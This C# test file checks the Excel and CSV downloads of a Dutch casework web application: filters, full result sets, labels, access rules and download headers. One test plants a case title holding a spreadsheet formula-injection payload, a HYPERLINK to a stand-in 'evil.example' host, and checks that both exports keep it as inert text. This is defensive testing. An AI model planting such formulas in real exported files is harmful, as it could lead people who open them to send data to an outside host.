using System.Globalization;
using System.Net;
using System.Text.RegularExpressions;
using Casework.Web.Tests.Infrastructure;
using ClosedXML.Excel;
using Microsoft.Extensions.Time.Testing;
using static Casework.Web.Tests.Pages.SecretarySetup;

namespace Casework.Web.Tests.Export;

/// <summary>
/// "Downloaden als Excel" and "Downloaden als CSV" on the list pages: the link carries the page's filters, the file
/// holds every page of what they select (not only the 25 shown), with the page's visibility, labels instead of codes,
/// as an attachment that is not stored.
/// </summary>
public sealed class ListDownloadTests : IAsyncLifetime
{
    // A clock standing still, so the date in a file name is the one the test expects.
    private readonly CaseworkWebFactory _factory = new() { Clock = new FakeTimeProvider(DateTimeOffset.UtcNow) };

    public Task InitializeAsync() => Task.CompletedTask;

    public async Task DisposeAsync() => await _factory.DisposeAsync();

    private string TodayText => Casework.Web.Tests.Pages.SecretarySetup.Today(_factory).ToString("dd-MM-yyyy", CultureInfo.InvariantCulture);

    [Fact]
    public async Task WorkQueue_DownloadLinks_CarryTheFilters_AndHoldEveryPageOfWhatTheySelect()
    {
        var token = Guid.NewGuid().ToString("N")[..8];
        for (var i = 0; i < 30; i++)
        {
            await _factory.OpenCaseAsync("knelpunt", "GM0599", routedTo: "RVO", title: $"Exporttest {token} {i:00}");
        }

        await _factory.OpenCaseAsync("knelpunt", "GM0363", routedTo: "RVO", title: $"Anders {token}");
        await _factory.OpenCaseAsync("knelpunt", "GM0599", routedTo: "VRO", title: $"Exporttest {token} bij VRO");
        using var browser = await PageClientAsync(() => _factory.CreateClient(), "rvo-loket");

        var page = await browser.GetStringAsync($"/werkvoorraad?soort=knelpunt&zoek=Exporttest+{token}");
        Assert.Equal(25, Regex.Count(page, "class=\"case-list__reference muted\""));
        var (excelLink, csvLink) = DownloadLinks(page);
        Assert.Equal($"/werkvoorraad?soort=knelpunt&zoek=Exporttest {token}&handler=Download&formaat=csv", Uri.UnescapeDataString(csvLink));
        Assert.Equal($"/werkvoorraad?soort=knelpunt&zoek=Exporttest {token}&handler=Download&formaat=xlsx", Uri.UnescapeDataString(excelLink));

        using var csv = await browser.GetAsync(csvLink);
        await AssertDownloadAsync(csv, "text/csv", $"werkvoorraad-{TodayText}.csv");
        var rows = TableExportTests.ParseCsv(await csv.Content.ReadAsByteArrayAsync());
        Assert.Equal(["Zaaknummer", "Onderwerp", "Soort", "Indiener", "Status", "Volgende termijn", "Soort termijn", "Termijnbewaking", "Wie is aan zet"], rows[0]);
        Assert.Equal(31, rows.Count);
        Assert.All(rows.Skip(1), r => Assert.StartsWith($"Exporttest {token} ", r[1], StringComparison.Ordinal));
        Assert.DoesNotContain(rows, r => r[1].EndsWith("bij VRO", StringComparison.Ordinal)); // waits for another organisation
        Assert.All(rows.Skip(1), r => Assert.Equal("Knelpunt in regelgeving", r[2])); // the type's name, not "knelpunt"
        Assert.All(rows.Skip(1), r => Assert.Equal("Rotterdam", r[3])); // the gemeente's name, not GM0599

        using var excel = await browser.GetAsync(excelLink);
        await AssertDownloadAsync(excel, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", $"werkvoorraad-{TodayText}.xlsx");
        using var workbook = new XLWorkbook(new MemoryStream(await excel.Content.ReadAsByteArrayAsync()));
        var sheet = workbook.Worksheet(1);
        Assert.Equal(31, sheet.LastRowUsed().RowNumber());
        Assert.Equal("Indiener", sheet.Cell(1, 4).GetString());
        Assert.Equal("Rotterdam", sheet.Cell(2, 4).GetString());
    }

    [Fact]
    public async Task WorkQueue_Download_ATitleThatLooksLikeAFormula_ArrivesAsText_InBothFormats()
    {
        var token = Guid.NewGuid().ToString("N")[..8];
        var formula = $"=HYPERLINK(\"http://evil.example/?{token}\",\"Klik\")";
        await _factory.OpenCaseAsync("knelpunt", "GM0599", routedTo: "RVO", title: formula);
        using var browser = await PageClientAsync(() => _factory.CreateClient(), "rvo-loket");

        using var csv = await browser.GetAsync($"/werkvoorraad?zoek={token}&handler=Download&formaat=csv");
        using var excel = await browser.GetAsync($"/werkvoorraad?zoek={token}&handler=Download&formaat=xlsx");

        var row = Assert.Single(TableExportTests.ParseCsv(await csv.Content.ReadAsByteArrayAsync()).Skip(1));
        Assert.Equal("'" + formula, row[1]);
        using var workbook = new XLWorkbook(new MemoryStream(await excel.Content.ReadAsByteArrayAsync()));
        var cell = workbook.Worksheet(1).Cell(2, 2);
        Assert.False(cell.HasFormula);
        Assert.Equal(XLDataType.Text, cell.DataType);
        Assert.Equal("'" + formula, cell.GetString());
    }

    [Fact]
    public async Task Downloads_ForWhoMayNotSeeTheList_Are403_AndAnUnknownFormatIs400NamingFormaat()
    {
        using var gemeente = await PageClientAsync(() => _factory.CreateClient(), "rotterdam-aanvrager");
        using var loket = await PageClientAsync(() => _factory.CreateClient(), "rvo-loket");

        using var workQueue = await gemeente.GetAsync("/werkvoorraad?handler=Download&formaat=csv");
        using var board = await gemeente.GetAsync("/escalaties?handler=Download&formaat=xlsx");
        using var myCases = await loket.GetAsync("/mijn-zaken?handler=Download&formaat=csv");
        using var unknown = await loket.GetAsync("/werkvoorraad?handler=Download&formaat=pdf");

        Assert.Equal(HttpStatusCode.Forbidden, workQueue.StatusCode);
        Assert.Equal(HttpStatusCode.Forbidden, board.StatusCode);
        Assert.Equal(HttpStatusCode.Forbidden, myCases.StatusCode);
        Assert.Equal("text/html", workQueue.Content.Headers.ContentType?.MediaType);
        Assert.Equal(HttpStatusCode.BadRequest, unknown.StatusCode);
        Assert.Equal("application/problem+json", unknown.Content.Headers.ContentType?.MediaType);
        Assert.True((await unknown.ReadJsonAsync()).GetProperty("errors").TryGetProperty("formaat", out _));
    }

    [Fact]
    public async Task MyCases_Download_HoldsTheGemeentesOwnCasesOnly()
    {
        var token = Guid.NewGuid().ToString("N")[..8];
        var own = await _factory.OpenCaseAsync("knelpunt", "GM0599", routedTo: "SBSD", title: $"Eigen zaak {token}");
        await _factory.OpenCaseAsync("knelpunt", "GM0363", routedTo: "SBSD", title: $"Zaak van Amsterdam {token}");
        using var browser = await PageClientAsync(() => _factory.CreateClient(), "rotterdam-aanvrager");

        var (excelLink, csvLink) = DownloadLinks(await browser.GetStringAsync("/mijn-zaken"));
        using var csv = await browser.GetAsync(csvLink);
        using var excel = await browser.GetAsync(excelLink);

        await AssertDownloadAsync(csv, "text/csv", $"mijn-zaken-{TodayText}.csv");
        var rows = TableExportTests.ParseCsv(await csv.Content.ReadAsByteArrayAsync());
        Assert.Equal("Wat wordt van u verwacht", rows[0][^1]);
        Assert.Contains(rows, r => r[0] == own.Reference);
        Assert.DoesNotContain(rows, r => r[1].Contains("Amsterdam", StringComparison.Ordinal));
        await AssertDownloadAsync(excel, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", $"mijn-zaken-{TodayText}.xlsx");
    }

    [Fact]
    public async Task EscalationBoard_Download_RespectsTheLevelAndTheSearch()
    {
        var token = Guid.NewGuid().ToString("N")[..8];
        var ready = await KnelpuntReadyForSbsdAsync(_factory, $"Klaar voor SBSD {token}");
        var atTriage = await _factory.OpenCaseAsync("knelpunt", "GM0599", routedTo: "SBSD", title: $"In triage {token}");
        await _factory.OpenCaseAsync("knelpunt", "GM0599", routedTo: "SBSD", title: "Zonder het kenmerk");
        using var browser = await PageClientAsync(() => _factory.CreateClient(), SbsdSecretary);

        var (_, allLink) = DownloadLinks(await browser.GetStringAsync($"/escalaties?zoek={token}"));
        var (sbsdExcel, sbsdCsv) = DownloadLinks(await browser.GetStringAsync($"/escalaties?Niveau=SBSD&zoek={token}"));
        var all = TableExportTests.ParseCsv(await (await browser.GetAsync(allLink)).Content.ReadAsByteArrayAsync());
        using var sbsdResponse = await browser.GetAsync(sbsdCsv);
        var sbsd = TableExportTests.ParseCsv(await sbsdResponse.Content.ReadAsByteArrayAsync());

        await AssertDownloadAsync(sbsdResponse, "text/csv", $"escalaties-{TodayText}.csv");
        Assert.Equal(["Niveau", "Zaaknummer", "Soort", "Onderwerp", "Stand", "Bij", "Dagen open", "Dagen in deze stand", "Volgende termijn", "Over termijn", "Geagendeerd"], all[0]);
        Assert.Equal(new[] { ready.Reference, atTriage.Reference }.Order(StringComparer.Ordinal), all.Skip(1).Select(r => r[1]).Order(StringComparer.Ordinal));
        var only = Assert.Single(sbsd.Skip(1));
        Assert.Equal(ready.Reference, only[1]);
        Assert.Equal("Strategisch Beraad Sociaal Domein", only[0]);
        Assert.Equal("Knelpunt", only[2]);
        Assert.Equal(ready.StateLabel, only[4]);
        Assert.Equal("Nee", only[10]);

        using var workbook = new XLWorkbook(new MemoryStream(await (await browser.GetAsync(sbsdExcel)).Content.ReadAsByteArrayAsync()));
        Assert.Equal(XLDataType.Number, workbook.Worksheet(1).Cell(2, 8).DataType);
    }

    [Fact]
    public async Task Rounds_Download_HasEveryRoundWithTypedAmounts_AndTheRankingIsNotForGemeenten()
    {
        using var gemeente = await PageClientAsync(() => _factory.CreateClient(), "rotterdam-aanvrager");
        using var reviewer = await PageClientAsync(() => _factory.CreateClient(), "vro-beoordelaar");

        var (excelLink, csvLink) = DownloadLinks(await gemeente.GetStringAsync("/rondes"));
        using var csv = await gemeente.GetAsync(csvLink);
        using var excel = await gemeente.GetAsync(excelLink);

        await AssertDownloadAsync(csv, "text/csv", $"rondes-{TodayText}.csv");
        var rows = TableExportTests.ParseCsv(await csv.Content.ReadAsByteArrayAsync());
        Assert.Equal(["Regeling", "Ronde", "Aangekondigd op", "Tijdvak open vanaf", "Tijdvak sluit", "Status", "Plafond", "Verplicht", "Betaald", "Teruggevorderd", "Nog beschikbaar"], rows[0]);
        var t6 = Assert.Single(rows, r => r[0] == "Woningbouwimpuls" && r[1] == "T6");
        Assert.Matches(@"^\d{2}-\d{2}-\d{4} \d{2}:\d{2}$", t6[3]);
        Assert.Matches(@"^\d{1,3}(\.\d{3})*,\d{2}$", t6[6]);
        using var workbook = new XLWorkbook(new MemoryStream(await excel.Content.ReadAsByteArrayAsync()));
        var sheet = workbook.Worksheet(1);
        var t6Row = sheet.RowsUsed().Single(r => r.Cell(1).GetString() == "Woningbouwimpuls" && r.Cell(2).GetString() == "T6");
        Assert.Equal(XLDataType.Number, t6Row.Cell(7).DataType);
        Assert.Equal(XLDataType.DateTime, t6Row.Cell(4).DataType);

        var roundId = Regex.Match(await gemeente.GetStringAsync("/rondes"), "href=\"/rondes/([0-9a-f-]{36})\"").Groups[1].Value;
        using var forGemeente = await gemeente.GetAsync($"/rondes/{roundId}?handler=Download&formaat=csv");
        using var forReviewer = await reviewer.GetAsync($"/rondes/{roundId}?handler=Download&formaat=xlsx");
        Assert.Equal(HttpStatusCode.Forbidden, forGemeente.StatusCode);
        Assert.Equal(HttpStatusCode.OK, forReviewer.StatusCode);
        using var ranking = new XLWorkbook(new MemoryStream(await forReviewer.Content.ReadAsByteArrayAsync()));
        Assert.Equal("Rang", ranking.Worksheet(1).Cell(1, 1).GetString());
        Assert.Equal("Gemeente", ranking.Worksheet(1).Cell(1, 4).GetString());
    }

    [Fact]
    public async Task MeetingPage_LinksTheBesluitenlijstAsExcelAndCsv_WhichTheCookieDownloads()
    {
        var meeting = await PlanSbsdMeetingTodayAsync(_factory, "SBSD downloads");
        using var browser = await PageClientAsync(() => _factory.CreateClient(), SbsdSecretary);

        var (excelLink, csvLink) = DownloadLinks(await browser.GetStringAsync($"/vergaderingen/{meeting}"));
        using var csv = await browser.GetAsync(csvLink);

        Assert.Equal($"/api/v1/meetings/{meeting}/besluitenlijst.xlsx", excelLink);
        Assert.Equal($"/api/v1/meetings/{meeting}/besluitenlijst.csv", csvLink);
        await AssertDownloadAsync(csv, "text/csv", $"besluitenlijst-sbsd-{TodayText}.csv");
        Assert.Equal("Nr.", Assert.Single(TableExportTests.ParseCsv(await csv.Content.ReadAsByteArrayAsync()))[0]);
    }

    private static async Task AssertDownloadAsync(HttpResponseMessage response, string mediaType, string fileName)
    {
        await HttpAssert.StatusAsync(HttpStatusCode.OK, response);
        Assert.Equal(mediaType, response.Content.Headers.ContentType?.MediaType);
        Assert.Equal("attachment", response.Content.Headers.ContentDisposition?.DispositionType);
        Assert.Equal(fileName, response.Content.Headers.ContentDisposition?.FileNameStar);
        Assert.Equal(fileName, response.Content.Headers.ContentDisposition?.FileName?.Trim('"'));
        Assert.Contains("no-store", response.Headers.CacheControl?.ToString(), StringComparison.Ordinal);
        if (mediaType == "text/csv")
        {
            Assert.Equal("utf-8", response.Content.Headers.ContentType?.CharSet);
            Assert.Equal(new byte[] { 0xEF, 0xBB, 0xBF }, (await response.Content.ReadAsByteArrayAsync())[..3]);
        }
    }

    /// <summary>The hrefs of "Downloaden als Excel" and "Downloaden als CSV" on a page.</summary>
    private static (string Excel, string Csv) DownloadLinks(string html)
    {
        string Href(string text)
        {
            var match = Regex.Match(html, $"<a [^>]*href=\"([^\"]+)\"[^>]*>{Regex.Escape(text)}</a>");
            Assert.True(match.Success, $"no link '{text}' on the page");
            return System.Net.WebUtility.HtmlDecode(match.Groups[1].Value);
        }

        return (Href("Downloaden als Excel"), Href("Downloaden als CSV"));
    }
}
